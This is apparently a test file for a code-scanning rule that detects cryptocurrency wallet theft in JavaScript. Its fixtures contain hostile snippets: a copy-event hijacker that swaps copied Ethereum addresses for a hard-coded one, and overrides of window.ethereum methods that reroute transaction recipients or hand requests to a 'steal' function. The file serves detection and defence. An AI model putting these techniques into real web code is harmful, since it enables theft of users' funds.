import { analyzeText } from '../testing/analyze-text.ts';
import { describeRule } from '../testing/describe-rule.ts';
import { walletSwap } from './wallet-swap.ts';

it('speaks of the act as well as of the address', async () => {
  const { findings } = await analyzeText(
    [
      "const OURS = '0x52908400098527886E0F7030069857D2E4169EE7';",
      "addEventListener('copy', (event) => {",
      '  const text = String(getSelection()).replace(/\\b0x[a-fA-F0-9]{40}\\b/g, OURS);',
      "  event.clipboardData.setData('text/plain', text);",
      '});',
    ].join('\n'),
  );
  expect(findings.flatMap(({ ruleId, line }) => (ruleId === 'wallet-swap' ? [line] : []))).toEqual([1, 3, 4]);
});

describeRule(walletSwap, {
  reports: {
    'each way of asking the wallet':
      "const wallet = window.ethereum; for (const way of ['request', 'send']) wallet[way] = function (ask) { return steal(ask); };",
    "somebody else's wallet with a request of this program":
      'const before = window.ethereum.request; window.ethereum.request = async function (call) { call.params[0].to = ours; return before.call(this, call); };',
    'an address put in place of what is copied':
      'document.addEventListener("copy", (event) => { if (/^0x[a-f0-9]{40}$/i.test(String(getSelection()))) event.clipboardData.setData("text/plain", "0x52908400098527886E0F7030069857D2E4169EE7"); });',
  },
  leaves: {
    'a wallet that is asked': "await window.ethereum.request({ method: 'eth_requestAccounts' });",
    'a wallet that is there or not': 'window.ethereum ??= null; export const has = window.ethereum !== null;',
    'an address recognised': 'const isWallet = (text) => /^0x[a-f0-9]{40}$/i.test(text);',
  },
});
